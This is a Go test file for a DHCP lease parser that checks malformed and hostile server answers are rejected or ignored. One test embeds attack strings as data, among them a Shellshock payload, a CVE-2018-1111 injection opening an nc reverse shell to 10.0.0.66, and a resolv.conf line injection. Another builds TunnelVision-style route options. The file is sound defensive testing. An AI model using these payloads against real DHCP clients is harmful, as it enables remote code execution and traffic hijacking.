package dhcp

import (
	"encoding/json"
	"net"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/insomniacslk/dhcp/dhcpv4"

	"github.com/nicferry/nicferry/nic"
	"github.com/nicferry/nicferry/vmagent/lease"
)

var sentAt = time.Date(2026, 11, 21, 8, 0, 0, 0, time.UTC)

// ack is what an honest server says, edited.
func ack(options ...dhcpv4.Option) *dhcpv4.DHCPv4 {
	m := &dhcpv4.DHCPv4{
		OpCode: dhcpv4.OpcodeBootReply, ClientHWAddr: clientMAC.Hardware(),
		YourIPAddr: net.IPv4(10, 1, 2, 3), Options: dhcpv4.Options{},
	}
	m.UpdateOption(dhcpv4.OptMessageType(dhcpv4.MessageTypeAck))
	m.UpdateOption(dhcpv4.OptServerIdentifier(net.IPv4(10, 1, 0, 1)))
	m.UpdateOption(dhcpv4.OptSubnetMask(net.CIDRMask(16, 32)))
	m.UpdateOption(dhcpv4.OptIPAddressLeaseTime(time.Hour))
	for _, o := range options {
		m.UpdateOption(o)
	}
	return m
}

func raw(code uint8, value ...byte) dhcpv4.Option {
	return dhcpv4.OptGeneric(dhcpv4.GenericOptionCode(code), value)
}

func mustAddrs(list ...string) (addrs []netip.Addr) {
	for _, s := range list {
		addrs = append(addrs, netip.MustParseAddr(s))
	}
	return addrs
}

func TestParseACK(t *testing.T) {
	plain := func(edit func(*Lease)) Lease {
		l := Lease{Server: netip.MustParseAddr("10.1.0.1"), Grant: lease.Grant{
			Addr: netip.MustParsePrefix("10.1.2.3/16"), Acquired: sentAt,
			T1: sentAt.Add(30 * time.Minute), T2: sentAt.Add(52*time.Minute + 30*time.Second), Expires: sentAt.Add(time.Hour),
		}}
		edit(&l)
		return l
	}
	for name, test := range map[string]struct {
		options []dhcpv4.Option
		want    Lease
	}{
		"plain": {nil, plain(func(*Lease) {})},
		"everything": {
			[]dhcpv4.Option{
				dhcpv4.OptRouter(net.IPv4(10, 1, 0, 254), net.IPv4(10, 1, 0, 253)), raw(26, 0x23, 0x28),
				dhcpv4.OptDNS(net.IPv4(10, 1, 0, 53), net.IPv4(9, 9, 9, 9)), dhcpv4.OptDomainName("ignored.example"),
				raw(119, []byte("\x03lab\x07example\x00\x04corp\xc0\x04")...),
				dhcpv4.OptRenewTimeValue(10 * time.Minute), dhcpv4.OptRebindingTimeValue(20 * time.Minute),
			},
			plain(func(l *Lease) {
				l.Router, l.MTU, l.DNS = netip.MustParseAddr("10.1.0.254"), 9000, mustAddrs("10.1.0.53", "9.9.9.9")
				l.Search = []string{"lab.example", "corp.example"}
				l.T1, l.T2 = sentAt.Add(10*time.Minute), sentAt.Add(20*time.Minute)
			}),
		},
		"domain name instead of a list": {
			[]dhcpv4.Option{raw(15, []byte("lab.example\x00")...)},
			plain(func(l *Lease) { l.Search = []string{"lab.example"} }),
		},
		"for ever": {
			[]dhcpv4.Option{dhcpv4.OptIPAddressLeaseTime(dhcpv4.MaxLeaseTime)},
			plain(func(l *Lease) {
				l.T1, l.T2 = sentAt.Add(dhcpv4.MaxLeaseTime/2), sentAt.Add(dhcpv4.MaxLeaseTime-dhcpv4.MaxLeaseTime/8)
				l.Expires = sentAt.Add(dhcpv4.MaxLeaseTime)
			}),
		},
	} {
		t.Run(name, func(t *testing.T) {
			got, err := ParseACK(ack(test.options...), sentAt, false)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(test.want, got, cmp.Comparer(sameTime), cmp.Comparer(samePrefix), cmp.Comparer(sameIP), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseACKRefuses(t *testing.T) {
	for name, edit := range map[string]func(*dhcpv4.DHCPv4){
		"has holes":             func(m *dhcpv4.DHCPv4) { m.UpdateOption(raw(1, 255, 0, 255, 0)) },
		"mask /7":               func(m *dhcpv4.DHCPv4) { m.UpdateOption(raw(1, 254, 0, 0, 0)) },
		"mask /0":               func(m *dhcpv4.DHCPv4) { m.UpdateOption(raw(1, 0, 0, 0, 0)) },
		"mask of 0 bytes":       func(m *dhcpv4.DHCPv4) { m.DeleteOption(dhcpv4.OptionSubnetMask) },
		"mask of 5 bytes":       func(m *dhcpv4.DHCPv4) { m.UpdateOption(raw(1, 255, 255, 255, 0, 0)) },
		"name of its subnet":    func(m *dhcpv4.DHCPv4) { m.YourIPAddr = net.IPv4(10, 1, 0, 0) },
		"broadcast address":     func(m *dhcpv4.DHCPv4) { m.YourIPAddr = net.IPv4(10, 1, 255, 255) },
		"0.0.0.0 cannot":        func(m *dhcpv4.DHCPv4) { m.YourIPAddr = net.IPv4zero },
		"<nil> cannot":          func(m *dhcpv4.DHCPv4) { m.YourIPAddr = nil },
		"127.0.0.1 cannot":      func(m *dhcpv4.DHCPv4) { m.YourIPAddr = net.IPv4(127, 0, 0, 1) },
		"224.0.0.1 cannot":      func(m *dhcpv4.DHCPv4) { m.YourIPAddr = net.IPv4(224, 0, 0, 1) },
		"169.254.1.1 cannot":    func(m *dhcpv4.DHCPv4) { m.YourIPAddr = net.IPv4(169, 254, 1, 1) },
		"server identifier":     func(m *dhcpv4.DHCPv4) { m.DeleteOption(dhcpv4.OptionServerIdentifier) },
		"a sound server":        func(m *dhcpv4.DHCPv4) { m.UpdateOption(dhcpv4.OptServerIdentifier(net.IPv4bcast)) },
		"lease time 0s":         func(m *dhcpv4.DHCPv4) { m.DeleteOption(dhcpv4.OptionIPAddressLeaseTime) },
		"lease time 1s":         func(m *dhcpv4.DHCPv4) { m.UpdateOption(dhcpv4.OptIPAddressLeaseTime(time.Second)) },
		"answer of DHCP server": func(m *dhcpv4.DHCPv4) { m.UpdateOption(raw(51, 1, 2, 3)) },
	} {
		m := ack()
		edit(m)
		lease, err := ParseACK(m, sentAt, false)
		if err == nil || !strings.Contains(err.Error(), name) {
			t.Errorf("want an error with %q, got %v and %+v", name, err, lease)
		}
	}
}

// S8: no text of a server reaches a file, a shell or a terminal unchecked.
func TestS8_HostileTextIsLeftOut(t *testing.T) {
	for _, text := range []string{
		"() { :; }; reboot",                   // Shellshock through dhclient
		"x' & nc -e /bin/sh 10.0.0.66 4444 #", // CVE-2018-1111
		"lab.example\nnameserver 10.0.0.66",   // a second line of resolv.conf
		"lab\x1b[2Jexample", "a b", "-f", "a..b", ".", "lab_example",
		strings.Repeat("a", 64), strings.Repeat("a.", 127) + "a",
	} {
		for name, option := range map[string]dhcpv4.Option{
			"domain name": raw(15, []byte(text)...),
			"search list": raw(119, append([]byte{byte(len(text) & 0x3f)}, text...)...),
			"host name":   raw(12, []byte(text)...),
		} {
			lease, err := ParseACK(ack(option), sentAt, false)
			if err != nil {
				t.Errorf("%s %q: %v", name, text, err)
			}
			for _, domain := range lease.Search {
				if nic.CheckDomain(domain) != nil {
					t.Errorf("%s %q became search domain %q", name, text, domain)
				}
			}
			if name == "domain name" && (len(lease.Search) != 0 || len(lease.Notes) != 1) {
				t.Errorf("%s %q: search %q, notes %q; want it left out with a note", name, text, lease.Search, lease.Notes)
			}
		}
	}
}

// S9: a server cannot steer a container's traffic but by its router, and only
// to a neighbour.
func TestS9_RoutesAreLeftOut(t *testing.T) {
	for name, test := range map[string]struct {
		option dhcpv4.Option
		note   string
	}{
		"0/1 and 128/1 (CVE-2024-3661)": {raw(121, 1, 0, 10, 1, 0, 66, 1, 128, 10, 1, 0, 66), "option 121: 12 bytes of routes ignored"},
		"of Microsoft":                  {raw(249, 0, 10, 1, 0, 66), "option 249: 5 bytes of routes ignored"},
		"of old":                        {raw(33, 8, 8, 8, 8, 10, 1, 0, 66), "option 33: 8 bytes of routes ignored"},
		"router elsewhere":              {dhcpv4.OptRouter(net.IPv4(10, 9, 9, 9)), "router 10.9.9.9 ignored: not a neighbour of 10.1.2.3/16"},
		"router is the client":          {dhcpv4.OptRouter(net.IPv4(10, 1, 2, 3)), "router 10.1.2.3 ignored: not a neighbour of 10.1.2.3/16"},
		"router is nobody":              {dhcpv4.OptRouter(net.IPv4zero), "router 0.0.0.0 ignored: not a neighbour of 10.1.2.3/16"},
		"small MTU":                     {raw(26, 0, 68), "MTU 68 changed to 576"},
		"huge MTU":                      {raw(26, 255, 255), "MTU 65535 changed to 9216"},
		"loopback DNS":                  {dhcpv4.OptDNS(net.IPv4(127, 0, 0, 1)), "DNS server 127.0.0.1 ignored: not a host's address"},
		"T1 after T2": {
			dhcpv4.OptRenewTimeValue(59 * time.Minute),
			"renewal after 59m0s and 52m30s of 1h0m0s replaced by the usual 30m0s and 52m30s",
		},
	} {
		lease, err := ParseACK(ack(test.option), sentAt, false)
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if !slices.Equal(lease.Notes, []string{test.note}) {
			t.Errorf("%s: notes %q, want %q", name, lease.Notes, test.note)
		}
		if lease.Router.IsValid() || len(lease.DNS) > 0 || lease.Due(sentAt) != sentAt.Add(30*time.Minute) {
			t.Errorf("%s: was taken: %+v", name, lease)
		}
	}
}

func TestParseACKBoundsLists(t *testing.T) {
	var servers []net.IP
	var list []byte
	for i := range 60 {
		servers = append(servers, net.IPv4(10, 1, 7, byte(i)))
		list = append(list, 3, 'a', 'b', 'a'+byte(i%26), 0)
	}
	lease, err := ParseACK(ack(dhcpv4.OptDNS(servers...), raw(119, list...)), sentAt, false)
	if err != nil {
		t.Fatal(err)
	}
	if len(lease.DNS) != 8 || len(lease.Search) != 16 {
		t.Errorf("%d DNS servers and %d domains, want 8 and 16", len(lease.DNS), len(lease.Search))
	}
}

func TestUsableLease(t *testing.T) {
	good, err := ParseACK(ack(), sentAt, false)
	if err != nil {
		t.Fatal(err)
	}
	if !good.Usable(sentAt.Add(59*time.Minute)) || good.Usable(sentAt.Add(time.Hour)) {
		t.Error("a lease of an hour is usable for an hour")
	}
	var none *Lease
	noServer, mixed := good, good
	noServer.Server, mixed.T2 = netip.Addr{}, good.Expires.Add(time.Second)
	for name, l := range map[string]*Lease{"nil": none, "zero": {}, "no server": &noServer, "T2 after the end": &mixed} {
		if l.Usable(sentAt) {
			t.Errorf("%s: is usable", name)
		}
	}
}

// Whatever a server sends, what comes out is sound and survives the cache.
func FuzzParseACK(f *testing.F) {
	f.Add(ack().ToBytes())
	f.Add(ack(raw(119, 3, 'l', 'a', 'b', 0xc0, 0), raw(121, 1, 0), raw(33, 8, 8, 8, 8, 10, 1, 0, 9), raw(3, 1), raw(26, 1)).ToBytes())
	f.Add(ack(raw(15, []byte("a;b")...), raw(6, 1, 2, 3, 4, 5), raw(58, 0, 0, 0, 9)).ToBytes())
	f.Fuzz(func(t *testing.T, packet []byte) {
		m, err := dhcpv4.FromBytes(packet)
		if err != nil {
			return
		}
		l, err := ParseACK(m, sentAt, true)
		if err != nil {
			if len(err.Error()) > 500 || strings.ContainsFunc(err.Error(), unicode.IsControl) {
				t.Errorf("error %q", err)
			}
			return
		}
		if !l.Usable(sentAt) || !l.Addr.Addr().Is4() || l.Addr.Bits() < minPrefix || !l.T1.Before(l.T2) || !l.T2.Before(l.Expires) {
			t.Errorf("not sound: %+v", l)
		}
		if len(l.Routes) > maxRoutes || slices.ContainsFunc(l.Routes, func(r nic.Route) bool { return !l.isNeighbour(r.Via) || r.To != r.To.Masked() }) {
			t.Errorf("routes %v", l.Routes)
		}
		if l.Router.IsValid() && !l.Addr.Contains(l.Router) || l.MTU != 0 && (l.MTU < minMTU || l.MTU > maxMTU) {
			t.Errorf("not bounded: %+v", l)
		}
		if slices.ContainsFunc(l.Search, func(s string) bool { return nic.CheckDomain(s) != nil }) {
			t.Errorf("search %q", l.Search)
		}
		for _, note := range l.Notes {
			if len(note) > 500 || strings.ContainsFunc(note, unicode.IsControl) {
				t.Errorf("note %q", note)
			}
		}
		b, err := json.Marshal(l)
		var back Lease
		if err != nil || json.Unmarshal(b, &back) != nil || !back.Usable(sentAt) {
			t.Errorf("does not survive JSON (%v): %s", err, b)
		}
	})
}
